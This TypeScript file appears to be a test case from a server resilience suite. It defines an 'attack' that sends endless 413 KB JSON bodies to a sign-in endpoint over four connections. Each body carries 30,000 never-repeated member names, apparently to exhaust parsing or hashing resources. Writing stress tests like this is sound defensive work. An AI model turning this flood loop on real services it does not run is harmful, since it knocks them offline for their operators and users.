import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../../support/attack.ts';

const CONNECTIONS = 4;
const MEMBERS = 30_000;

/** Sends JSON of 413 KB to the sign-in; each member has a name that no earlier request had. */
export const newNames: Attack = {
  what: 'new member names to `auths/signin`, 4 connections',
  targets: { health: 150, others: 150 },
  async attack({ url }) {
    let count = 0;
    const body = () => {
      const members = Array.from({ length: MEMBERS }, () => {
        count += 1;
        return `"n${count.toString(36).padStart(7, '0')}":1`;
      });
      return `{${members}}`;
    };
    const send = async () => {
      const headers = { 'content-type': 'application/json' };
      const response = await fetch(`${url}/api/v1/auths/signin`, { method: 'POST', headers, body: body() });
      await response.text();
    };
    const sendForEver = async () => {
      for (;;) await send().catch(() => delay(100));
    };
    const first = Array.from({ length: CONNECTIONS }, send);
    await Promise.allSettled(first);
    for (let connection = 0; connection < CONNECTIONS; connection += 1) void sendForEver();
  },
};
